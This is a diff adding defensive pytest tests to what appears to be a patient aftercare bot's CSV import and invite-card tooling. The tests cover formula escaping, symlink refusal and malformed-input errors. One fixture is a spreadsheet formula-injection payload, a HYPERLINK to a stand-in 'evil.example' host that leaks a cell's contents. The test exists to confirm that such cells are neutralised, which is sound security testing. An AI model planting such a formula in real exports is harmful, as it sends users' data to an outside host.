@@ -276,6 +276,12 @@ async def test_the_command_asks_telegram_for_the_username_and_refuses_to_overwri
     # Cards again from the CSV (a subset, say): the same links.
     assert await asyncio.to_thread(main, ["cards", str(tmp_path / "patients-invites.csv"), "--out", str(tmp_path / "again.pdf")]) == 0
     assert len(pypdf.PdfReader(tmp_path / "again.pdf").pages) == 1
+    # A link to nowhere where the cards would go is one line, not followed.
+    (tmp_path / "linked.pdf").symlink_to(tmp_path / "nowhere.pdf")
+    assert await asyncio.to_thread(main, ["cards", str(tmp_path / "patients-invites.csv"), "--out",
+                                          str(tmp_path / "linked.pdf")]) == 2
+    assert "linked.pdf is a symbolic link" in capsys.readouterr().err
+    assert not (tmp_path / "nowhere.pdf").exists()
 
 
 def test_cards_render_names_in_many_scripts(tmp_path):
@@ -315,3 +321,94 @@ def test_settings_name_the_card_fonts(tmp_path):
     with pytest.raises(ValueError, match="CARD_FONTS: .* not found"):
         Settings.from_env({"CARD_FONTS": str(tmp_path / "none.ttf")}, require_token=False)
     assert load_messages  # the import reads the catalog the bot reads
+
+
+async def test_no_cell_of_the_invites_csv_can_run_in_a_spreadsheet(harness, clock, tmp_path, monkeypatch):
+    """A name or reference that a spreadsheet would take for a formula is written with a quote in front
+    (OWASP's advice), and ``aftercare cards`` reads the name back as it was."""
+    formula = '=HYPERLINK("https://evil.example/?"&F2,"Open")'
+    path = write(tmp_path, "name,external_id\n" + f'"{formula.replace(chr(34), chr(34) * 2)}",@A-1\n'
+                 "+Maria,-B2\n")
+    outcome, lines = do_import(harness, path, cards=False)
+    assert outcome.status == 0, lines
+    table = list(csv.reader(io.StringIO(outcome.csv_path.read_text(encoding="utf-8-sig"))))
+    assert [(line[2], line[3]) for line in table[1:]] == [("'" + formula, "'@A-1"), ("'+Maria", "'-B2")]
+    for line in table:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line), line
+    with Session(harness.services.store.engine) as session:  # the database keeps the names as given
+        assert [p.name for p in session.exec(select(Patient).order_by(Patient.id))] == [formula, "+Maria"]
+    from bot.invite_sheets import read_invite_csv
+
+    assert [row["name"] for row in read_invite_csv(outcome.csv_path.read_text(encoding="utf-8"))] == [
+        formula, "+Maria"]
+
+
+async def test_a_dangling_symlink_where_the_invites_go_is_one_clear_line(harness, tmp_path):
+    """The invites file is created new: a link to nowhere in its place is refused before anything is written."""
+    path = write(tmp_path, "name\nAnna K\n")
+    (tmp_path / "patients-invites.csv").symlink_to(tmp_path / "elsewhere.csv")
+    outcome, lines = do_import(harness, path, cards=False)
+    assert outcome.status == 2 and count(harness, Patient) == 0
+    assert len(lines["err"]) == 1 and "symbolic link" in lines["err"][0], lines
+    assert not (tmp_path / "elsewhere.csv").exists()
+
+
+async def test_a_dangling_symlink_as_the_file_to_import_is_one_clear_line(harness, tmp_path):
+    source = tmp_path / "patients.csv"
+    source.symlink_to(tmp_path / "gone.csv")
+    outcome, lines = do_import(harness, source)
+    assert outcome.status == 2 and count(harness, Patient) == 0
+    assert lines["err"] == [f"aftercare: import: no such file {str(source)!r}"]
+
+
+async def test_a_cell_over_128_kib_is_one_clear_line(harness, tmp_path):
+    """An unclosed quote swallows the rest of the file into one cell: one line naming the line, no traceback."""
+    path = write(tmp_path, "name,external_id\nAnna K,A-1\n\"Bea" + " x" * 70_000 + "\n")
+    for check_only in (True, False):
+        outcome, lines = do_import(harness, path, check_only=check_only)
+        assert outcome.status == 2 and count(harness, Patient) == 0
+        assert lines["err"] == [f"aftercare: import: {path}: line 3: a cell is longer than 128 KiB: no patient's "
+                                "value is that long (a quote left open?)"], lines
+
+
+async def test_a_file_that_stops_being_utf8_half_way_is_one_clear_line(harness, tmp_path):
+    path = tmp_path / "patients.csv"
+    path.write_bytes(b"name\n" + b"Anna K\n" * 5_000 + "Beatriz Núñez\n".encode("latin-1"))
+    outcome, lines = do_import(harness, path, check_only=True)
+    assert outcome.status == 2
+    assert len(lines["err"]) == 1 and 'not UTF-8 text: save it as "CSV UTF-8"' in lines["err"][0], lines
+
+
+def test_rows_are_read_and_checked_a_window_at_a_time(harness, clock):
+    """Checking never runs ahead of its window: the first verdicts come before the rest of the file is read,
+    and each look-up of external ids asks about one window's."""
+    from jobs.data.importing import Defaults, ImportRow, check_stream
+
+    services = harness.services
+    settings = services.settings
+    defaults = Defaults(now=clock(), clinic_zone=settings.clinic_timezone, protocols=services.catalog.protocols,
+                        default_protocol=settings.default_protocol, series_length=settings.series_length,
+                        locales=services.catalog.locales, phone_region=settings.phone_region)
+    read = 0
+
+    def endless():
+        nonlocal read
+        while True:
+            read += 1
+            yield {"name": f"Patient {read}", "external_id": f"P-{read}"}
+
+    asked: list[int] = []
+    verdicts = check_stream(endless(), defaults=defaults, window=100,
+                            lookup=lambda ids: asked.append(len(ids)) or {})
+    first = [next(verdicts) for _ in range(150)]
+    assert all(isinstance(item, ImportRow) for item in first)
+    assert read == 200 and asked == [100, 100]
+
+
+def test_the_first_row_of_each_external_id_is_remembered_through_growth():
+    from jobs.data.importing import _digest, _FirstRows
+
+    seen = _FirstRows()
+    assert [seen.setdefault(_digest(f"EXT-{n}"), n + 2) for n in range(20_000)] == [None] * 20_000
+    assert [seen.setdefault(_digest(f"EXT-{n}"), 99_999) for n in (0, 4_095, 19_999)] == [2, 4_097, 20_001]
+    assert seen.setdefault(_digest("EXT-new"), 7) is None
